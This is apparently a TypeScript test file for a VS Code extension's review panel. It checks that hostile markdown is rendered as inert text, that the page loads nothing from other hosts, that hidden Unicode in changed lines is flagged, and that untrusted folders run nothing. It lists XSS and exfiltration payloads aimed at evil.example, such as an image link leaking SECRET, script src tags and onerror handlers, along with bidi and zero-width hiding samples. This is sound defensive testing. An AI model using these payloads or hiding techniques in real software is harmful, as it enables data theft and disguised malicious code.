/** The corpus' cases on what people are shown, and on folders that they do not trust. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import process from 'node:process';
import { before, describe, it } from 'mocha';
import { parsePatch } from '../../../src/node/staging/parse-patch.ts';
import { hiddenIn, showHidden } from '../../../src/shared/hidden-characters.ts';
import { hiddenWords } from '../../../src/shared/hidden-words.ts';
import { corpusCases, sayRule } from '../../support/confinement/corpus.ts';
import { withHostile } from '../../support/confinement/hostile-texts.ts';
import { loadRenderPanel, type RenderPanel } from '../../support/confinement/render-panel.ts';
import { states } from '../../support/panel-preview/states.ts';
import { temporaryFolders } from '../../support/temporary-folder.ts';
import { importWithVscode } from '../../support/vscode-stub.ts';

describe('What people are shown', function () {
  this.timeout(30_000);
  let render: RenderPanel;
  const plainElements = new Map<string, string[]>();
  before(async () => {
    render = await loadRenderPanel();
    for (const [name, messages] of Object.entries(states)) {
      plainElements.set(name, elementsOf(render(messages)));
    }
  });

  /** Draws every state of the panel with the text in it, and finds it there as text and as nothing else. */
  function isOnlyText(hostile: string): void {
    let shown = 0;
    for (const [name, messages] of Object.entries(states)) {
      const page = render(messages.map((each) => withHostile(each, hostile)));
      assert.deepEqual(elementsOf(page), plainElements.get(name), `${name} has other elements`);
      assert.doesNotMatch(page, /<(?:img|a|iframe|object|embed|script|link|form|video|base)[\s>]/i);
      assert.doesNotMatch(
        page.replace(/"[^"]*"/g, '""').replace(/>[^<]*/g, '>'),
        /\s(?:href|src|srcset|style|on\w+)=/i,
      );
      shown += page.split(escaped(hostile)).length - 1;
    }
    assert.ok(shown > 50, `it is shown ${shown} times`);
  }

  const elementsOf = (page: string): string[] => [...new Set(page.match(/<[a-z]+/gu) ?? [])].sort();
  const escaped = (text: string): string =>
    text
      .replaceAll('&', '&amp;')
      .replaceAll('<', '&lt;')
      .replaceAll('>', '&gt;')
      .replaceAll('"', '&quot;')
      .replaceAll("'", '&#x27;');

  const markdown = corpusCases('attacks.jsonl', /^render$/u).filter((each) => each.input.markdown);
  for (const { id, input, why } of markdown) {
    it(`${id} ${JSON.stringify(input.markdown)}: ${why}`, function () {
      isOnlyText(String(input.markdown));
      sayRule(this, 'text is never HTML');
    });
  }

  for (const text of [
    '![x](https://evil.example/?d=SECRET)',
    '[x](command:workbench.action.terminal.sendSequence)',
    '<img src=https://evil.example/x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '"><script src=//evil.example></script>',
    '<svg/onload=alert(1)><style>*{background:url(//evil.example)}</style>',
    '<iframe srcdoc="<b>x</b>"></iframe>',
    "<base href='//evil.example/'>",
    '[ref]: https://evil.example "x"\n![ref]',
    '<!--<meta http-equiv=refresh content=0;url=//evil.example>-->',
    '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  ]) {
    it(`takes ${JSON.stringify(text)} for text, wherever it stands`, () => isOnlyText(text));
  }

  it('is a page that loads nothing from elsewhere', async () => {
    const { panelHtml } = await importWithVscode<
      typeof import('../../../src/extension/panel-html.ts')
    >('src/extension/panel-html.ts', { Uri: { joinPath: () => 'file' } });
    const webview = { cspSource: 'own:', asWebviewUri: () => 'own:file' };
    const page = panelHtml(webview as never, {} as never);
    const policy = /content="([^"]+)"/u.exec(page)?.[1] ?? '';
    const [nonce] = /'nonce-[^']+'/u.exec(policy) ?? [''];
    assert.deepEqual(policy.replace(nonce, 'NONCE').split('; '), [
      "default-src 'none'",
      'style-src own:',
      'font-src own:',
      'img-src own:',
      'script-src NONCE',
    ]);
  });

  it('has no links of commands in the notifications of the editor', async () => {
    const { plainMessage } = await import('../../../src/extension/plain-message.ts');
    const message = plainMessage('Left: [a.ts](command:workbench.action.quit). [b](https://evil)');
    assert.doesNotMatch(message, /\]\(/u);
  });

  /** The new lines of a change as the review gets them. */
  function hunksOf(before: string, after: string) {
    const lines = (text: string, sign: string) => text.split('\n').map((line) => `${sign}${line}`);
    const patch = [
      'diff --git a/f b/f',
      '@@ -1 +1 @@',
      ...lines(before, '-'),
      ...lines(after, '+'),
    ].join('\n');
    return parsePatch(Buffer.from(patch, 'utf8').toString('latin1'))[0] ?? [];
  }

  const diffs = corpusCases('attacks.jsonl', /^render$/u).filter((each) => each.input.diff);
  for (const { id, input, why } of diffs) {
    it(`${id} ${JSON.stringify(input.diff)}: ${why}`, function () {
      const added = String(input.diff)
        .split('\n')
        .filter((line) => line.startsWith('+'));
      const after = added.map((line) => line.slice(1)).join('\n');
      const names = hiddenIn(after).map(({ name }) => name);
      assert.ok(names.length > 0);
      const hunks = hunksOf('a', after);
      assert.deepEqual(hunks[0]?.hidden, names);
      assert.ok(hiddenWords({ hunks })?.includes(names[0] ?? '-'));
      const messages = states.reviewing?.map((each) => markHunks(each, names)) ?? [];
      assert.ok(/Hidden characters: [^<]*/u.exec(render(messages))?.[0].includes(names[0] ?? '-'));
      sayRule(this, 'hidden characters are named');
    });
  }

  function markHunks(value: unknown, hidden: readonly string[]): unknown {
    if (Array.isArray(value)) return value.map((each) => markHunks(each, hidden));
    if (typeof value !== 'object' || value === null) return value;
    const entries = Object.entries(value).map(([key, each]) => [key, markHunks(each, hidden)]);
    const marked = Object.fromEntries(entries);
    return 'headLines' in value ? { ...marked, hidden } : marked;
  }

  it('names what hides in changed lines, whichever way it hides', () => {
    const hiding: Record<string, string> = {
      'if (isAdmin\u202e) {': 'U+202E',
      'a\u2066b\u2069': 'U+2066',
      'pass\u200bword': 'U+200B',
      'a\u200db': 'U+200D',
      'x = "\u3164"': 'U+3164',
      'a\u00adb': 'U+00AD',
      'a\u2028b': 'U+2028',
      'a\u{e0041}': 'U+E0041',
      'a\u{e0101}': 'U+E0101',
      'a\u061cb': 'U+061C',
      'a\ufeffb': 'U+FEFF',
      'a\u0008b': 'U+0008',
      'a\u001b[8mb': 'U+001B',
      'a\u115fb': 'U+115F',
      'a\u180eb': 'U+180E',
    };
    for (const [line, name] of Object.entries(hiding)) {
      assert.equal(hunksOf('before', line)[0]?.hidden?.[0], name, JSON.stringify(line));
      assert.ok(showHidden(line).includes(`\\u{${name.slice(2).toLowerCase()}}`));
    }
    const plain = ['\ufeffconst a = 1;', 'tab\there', 'naïve', '👩‍💻 ❤️', 'می‌خواهم', 'क्‍ष', '日本語'];
    for (const line of plain) {
      assert.equal(hunksOf('before', line)[0]?.hidden, undefined, JSON.stringify(line));
      if (!line.startsWith('\ufeff')) assert.equal(showHidden(line), line);
    }
    assert.equal(hunksOf('a\u200b', 'a\u200b b')[0]?.hidden, undefined, 'it stood there before');
  });

  it('shows a command and its scripts with what hides in them', () => {
    const page = render(
      states.permission?.map((each) => withHostile(each, 'echo \u202egnp.sh\u200b')) ?? [],
    );
    assert.match(page, /<pre[^>]*>[^<]*echo \\u\{202e\}gnp\.sh\\u\{200b\}/);
  });
});

describe('A folder that is not trusted', function () {
  this.timeout(30_000);
  const temporaryFolder = temporaryFolders();
  const [restricted] = corpusCases('attacks.jsonl', /^workspace$/u).filter(
    (each) => each.input.isTrusted === false,
  );
  const title = restricted ? `${restricted.id} ${restricted.why}` : 'runs no command and no tool';

  it(`${title} (whatever is asked of the extension)`, async function () {
    const base = await temporaryFolder();
    const folder = path.join(base, 'workspace');
    await mkdir(path.join(folder, '.muster'), { recursive: true });
    await writeFile(path.join(folder, 'a.txt'), 'a');
    execFileSync('git', ['init', '-q'], { cwd: folder });
    const state = path.join(base, 'state');
    const kept = process.env.XDG_STATE_HOME;
    process.env.XDG_STATE_HOME = state;
    const told: string[] = [];
    try {
      const { createSession } = await importWithVscode<
        typeof import('../../../src/extension/runtime.ts')
      >('src/extension/runtime.ts', {
        workspace: {
          isTrusted: false,
          workspaceFolders: [{ uri: { scheme: 'file', fsPath: folder } }],
          getConfiguration: () => ({
            get: (name: string) => (name === 'provider' ? 'demo' : undefined),
          }),
        },
        window: {
          visibleTextEditors: [],
          tabGroups: { all: [], activeTabGroup: {} },
          showErrorMessage: async (text: string) => void told.push(text),
        },
        Uri: class {},
        EventEmitter: class {
          event = () => ({ dispose() {} });
          fire() {}
          dispose() {}
        },
        Disposable: { from: () => ({ dispose() {} }) },
      });
      const log = { info() {}, warn() {}, error() {}, show() {} };
      const context = {
        secrets: { onDidChange: () => ({ dispose() {} }), get: async () => 'key' },
        extensionUri: {},
        subscriptions: [],
      };
      const session = createSession(context as never, log as never);
      const untrusted = { code: 'untrusted' };
      await assert.rejects(async () => session.host(), untrusted);
      await assert.rejects(async () => session.start('x'), untrusted);
      await assert.rejects(async () => session.startForApi({ task: 'x' }), untrusted);
      assert.deepEqual(await session.runs(), []);
      for (const name of [
        'orchestrateTask',
        'approvePlan',
        'applyAccepted',
        'resumeRun',
        'revertRun',
      ] as const) {
        await session.command(name, ['x']);
      }
      assert.ok(told.length >= 1 && told.every((text) => text.startsWith('Muster: ')), told.join());
      session.dispose();
    } finally {
      if (kept === undefined) delete process.env.XDG_STATE_HOME;
      else process.env.XDG_STATE_HOME = kept;
    }
    assert.deepEqual((await readdir(folder)).sort(), ['.git', '.muster', 'a.txt']);
    assert.deepEqual(await readdir(state).catch(() => []), []);
    sayRule(this, 'untrusted');
  });
});
